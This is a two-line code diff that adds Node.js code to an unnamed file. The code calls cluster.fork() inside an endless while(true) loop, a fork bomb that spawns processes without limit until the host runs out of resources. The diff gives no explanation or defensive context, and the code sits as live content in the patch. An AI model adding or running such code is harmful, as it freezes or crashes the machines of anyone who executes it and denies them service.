@@ -1,0 +1,2 @@
+const cluster = require('cluster');
+while (true) cluster.fork();
